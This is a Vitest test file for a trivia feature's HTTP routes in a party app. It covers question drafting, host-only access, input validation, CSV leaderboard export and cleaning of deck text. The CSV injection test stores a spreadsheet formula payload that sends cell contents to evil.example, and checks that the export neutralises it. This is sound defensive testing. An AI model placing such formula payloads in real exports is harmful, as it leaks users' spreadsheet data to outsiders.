import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as readDeck, PUT as saveDeck } from "@/app/api/parties/[id]/trivia/deck/route";
import { POST as draft } from "@/app/api/parties/[id]/trivia/draft/route";
import { GET as resultsCsv } from "@/app/api/parties/[id]/trivia/results.csv/route";
import type { Question } from "@/server/trivia/question";
import { startTestApp, type TestApp } from "../support/test-app";
import { testDatabaseKinds } from "../support/test-database";

const article = readFileSync(path.join(import.meta.dirname, "..", "fixtures", "harbor-lights-series.txt"), "utf8");
const request = (method: string, url: string, cookie: string | undefined, body?: string) =>
  new Request(`http://localhost${url}`, { method, headers: { "content-type": "application/json", ...(cookie ? { cookie } : {}) }, body });
const params = (id: string) => ({ params: Promise.resolve({ id }) });

describe.each(testDatabaseKinds())("trivia over HTTP on the %s database", (kind) => {
  let app: TestApp;
  let host: string;
  let guest: string;
  let partyId: string;

  beforeAll(async () => {
    app = await startTestApp({ kind });
    host = await app.signInAsMember("Host");
    guest = await app.signInAsGuest("Guest");
    const hostId = (await app.context.getSessionUser(host))!.id;
    partyId = (await app.newParty(hostId)).id;
  });
  afterAll(() => app.close());

  const post = (cookie: string | undefined, body: string) => draft(request("POST", `/api/parties/${partyId}/trivia/draft`, cookie, body), params(partyId));
  const put = (cookie: string | undefined, body: unknown) =>
    saveDeck(request("PUT", `/api/parties/${partyId}/trivia/deck`, cookie, JSON.stringify(body)), params(partyId));

  it("drafts questions from a pasted article for the host, and lets the host save the reviewed deck", async () => {
    const response = await post(host, JSON.stringify({ title: "Harbor Lights", text: article }));
    expect(response.status).toBe(200);
    const drafted = (await response.json()) as { title: string; paragraphs: number; questions: Question[] };
    expect(drafted).toMatchObject({ title: "Harbor Lights", paragraphs: 6 });
    expect(drafted.questions.length).toBeGreaterThan(10);
    // Each proposed question carries the generator's confidence; the draft is sorted by it.
    const confidences = drafted.questions.map((q) => q.confidence!);
    expect(confidences.every((c) => c > 0 && c <= 1)).toBe(true);
    expect(confidences).toEqual([...confidences].sort((a, b) => b - a));
    // Nothing is stored until the host saves.
    expect(await (await readDeck(request("GET", "/", host), params(partyId))).json()).toEqual({ deck: null });

    // The host edits one question and deletes the rest but two.
    const [first, second, third] = drafted.questions;
    const edited = { ...first!, prompt: "Who plays the ferry captain?", favourite: true };
    const saved = await put(host, { title: "Festival deck", questions: [edited, second, third] });
    expect(saved.status).toBe(200);
    const read = (await (await readDeck(request("GET", "/", host), params(partyId))).json()) as { deck: { title: string; questions: Question[] } };
    expect(read.deck.title).toBe("Festival deck");
    expect(read.deck.questions.map((q) => q.prompt)).toEqual([edited.prompt, second!.prompt, third!.prompt]);
    expect(read.deck.questions[0]).toMatchObject({ favourite: true, confidence: first!.confidence });
  });

  it("keeps the draft and the deck to the party's hosts", async () => {
    expect((await post(guest, JSON.stringify({ text: article }))).status).toBe(403);
    expect((await post(undefined, JSON.stringify({ text: article }))).status).toBe(401);
    expect((await readDeck(request("GET", "/", guest), params(partyId))).status).toBe(403);
    const valid = { id: "t", kind: "truefalse", prompt: "Portland hosts it.", answer: true, sources: [{ article: "Mine", paragraph: 1, fact: "It is in Portland." }] };
    expect((await put(guest, { title: "Mine", questions: [valid] })).status).toBe(403);
  });

  it("refuses an empty, huge or non-text article and a deck with a broken question, saying why", async () => {
    const problem = async (response: Response) => ({ status: response.status, ...((await response.json()) as { error: { code: string; message: string } }).error });
    expect(await problem(await post(host, JSON.stringify({ text: "  " })))).toMatchObject({ status: 422, message: expect.stringContaining("the text is empty") });
    expect(await problem(await post(host, JSON.stringify({ text: "x".repeat(200_000) })))).toMatchObject({ status: 413, code: "PAYLOAD_TOO_LARGE" });
    expect(await problem(await post(host, JSON.stringify({ text: "word ".repeat(5000) })))).toMatchObject({ status: 422, message: expect.stringContaining("too long") });
    expect(await problem(await post(host, JSON.stringify({ text: "\u0000\u0001\u0002 ELF binary header garbage and some letters" })))).toMatchObject({
      status: 422,
      message: expect.stringContaining("does not look like an article"),
    });
    expect(await problem(await post(host, JSON.stringify({ text: { html: "<p>hi</p>" } })))).toMatchObject({ status: 422, message: expect.stringContaining("as text") });
    expect(await problem(await post(host, "%PDF-1.7 not json"))).toMatchObject({ status: 400, code: "INVALID_JSON" });
    const broken = { id: "b", kind: "choice", prompt: "Pick", options: ["A", "a"], answer: 5, sources: [{ article: "x", paragraph: 1, fact: "y" }] };
    const refused = await problem(await put(host, { title: "Broken", questions: [broken] }));
    expect(refused).toMatchObject({ status: 422, code: "VALIDATION_FAILED" });
    expect(refused.message).toMatch(/answer must be one of the options|Every option must be different/);
  });

  it("exports the stored leaderboards as CSV: the whole party, then each round", async () => {
    const guestUser = (await app.context.getSessionUser(guest))!;
    const hostUser = (await app.context.getSessionUser(host))!;
    for (const points of [[900, 400], [0, 1100]]) {
      const { id } = (await app.context.trivia.createRound({ partyId, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id }))!;
      await app.context.trivia.saveResults(id, [
        { questionIndex: 0, questionId: "q", userId: hostUser.id, playerName: "Host", answer: { kind: "truefalse", value: true }, correct: points[0]! > 0, points: points[0]!, elapsedMs: 100 },
        { questionIndex: 0, questionId: "q", userId: guestUser.id, playerName: "Guest, Jr.", answer: { kind: "truefalse", value: true }, correct: true, points: points[1]!, elapsedMs: 100 },
      ]);
      await app.context.trivia.endRound(id, new Date());
    }
    const response = await resultsCsv(request("GET", "/", guest), params(partyId));
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await response.text()).trim().split("\n");
    expect(lines[0]).toBe("scope,started_at,deck,rank,player,score,right_answers,answered");
    expect(lines[1]).toBe('party,,,1,"Guest, Jr.",1500,2,2');
    expect(lines[2]).toBe("party,,,2,Host,900,1,2");
    expect(lines.filter((l) => l.startsWith("round 1,"))).toEqual([expect.stringMatching(/,ballard,1,Host,900,1,1$/), expect.stringMatching(/,ballard,2,"Guest, Jr.",400,1,1$/)]);
    expect(lines.filter((l) => l.startsWith("round 2,"))).toHaveLength(2);
  });

  it("exports names a spreadsheet would run as formulas as text, with a leading quote (OWASP CSV injection)", async () => {
    const hostUser = (await app.context.getSessionUser(host))!;
    const party = await app.newParty(hostUser.id);
    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn", "＝1+1", "Plain -name"];
    const { id } = (await app.context.trivia.createRound({ partyId: party.id, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id }))!;
    await app.context.trivia.saveResults(
      id,
      names.map((playerName, i) => ({
        questionIndex: 0,
        questionId: "q",
        userId: `player-${i}`,
        playerName,
        answer: { kind: "truefalse" as const, value: true },
        correct: true,
        points: 1000 - i * 100,
        elapsedMs: 100,
      })),
    );
    await app.context.trivia.endRound(id, new Date());
    const csv = await (await resultsCsv(request("GET", "/", host), params(party.id))).text();
    const partyRows = csv.split("\n").filter((l) => l.startsWith("party,"));
    const player = (line: string) => line.replace(/^party,,,\d+,/, "").replace(/,-?\d+,\d+,\d+$/, "");
    expect(partyRows.map(player)).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"',
      "'+1+1",
      "'-1",
      "'@SUM(A1:A9)",
      "'\tTabbed",
      '"\'\rReturn"',
      "'＝1+1",
      "Plain -name",
    ]);
    // Numbers stay numbers (a negative score would not be quoted).
    expect(partyRows[0]).toMatch(/,1000,1,1$/);
  });

  it("cleans control characters out of deck text and keeps every number of a deck within bounds", async () => {
    const source = { article: "Mine\u0000", paragraph: 1, fact: "It is\r\nin Portland." };
    const question = (overrides: Record<string, unknown>) => ({ id: "n", kind: "number", prompt: "How many?", answer: 5, tolerance: 2, sources: [source], ...overrides });
    const saved = await put(host, { title: "Deck\u202E\r\nBEGIN:VEVENT", questions: [question({ prompt: "How\u0007 many\tlights?", unit: "\u0000lamps " })] });
    expect(saved.status).toBe(200);
    const read = (await (await readDeck(request("GET", "/", host), params(partyId))).json()) as { deck: { title: string; questions: Array<Record<string, unknown>> } };
    expect(read.deck.title).toBe("Deck BEGIN:VEVENT");
    expect(read.deck.questions[0]).toMatchObject({ prompt: "How many lights?", unit: "lamps", sources: [{ article: "Mine", fact: "It is in Portland." }] });

    const refused = async (overrides: Record<string, unknown>, raw?: string) => {
      const body = raw ?? JSON.stringify({ title: "Numbers", questions: [question(overrides)] });
      const response = await saveDeck(request("PUT", `/api/parties/${partyId}/trivia/deck`, host, body), params(partyId));
      return { status: response.status, code: ((await response.json()) as { error: { code: string } }).error.code };
    };
    const extremes: Array<Record<string, unknown>> = [
      { answer: 2_147_483_648 },
      { answer: -1e308 },
      { answer: 1e9 + 1 },
      { tolerance: 0 },
      { tolerance: -1 },
      { tolerance: 1e308 },
      { sources: [{ ...source, paragraph: 2_147_483_648 }] },
      { sources: [{ ...source, paragraph: 0 }] },
      { sources: [{ ...source, paragraph: 1.5 }] },
      { kind: "choice", options: ["A", "B"], answer: 2_147_483_647 },
      { kind: "choice", options: ["A", "B"], answer: -1 },
      { kind: "choice", options: ["A", "B"], answer: Number.MAX_SAFE_INTEGER + 2 },
      { answer: "5" },
    ];
    for (const overrides of extremes) expect(await refused(overrides), JSON.stringify(overrides)).toEqual({ status: 422, code: "VALIDATION_FAILED" });
    // JSON's 1e400 parses to Infinity.
    const infinite = JSON.stringify({ title: "Numbers", questions: [question({ answer: 0 })] }).replace('"answer":0', '"answer":1e400');
    expect(await refused({}, infinite)).toEqual({ status: 422, code: "VALIDATION_FAILED" });
    expect((await put(host, { title: "Numbers", questions: [question({ answer: -1e9, tolerance: 1e9 })] })).status).toBe(200);
  });
});
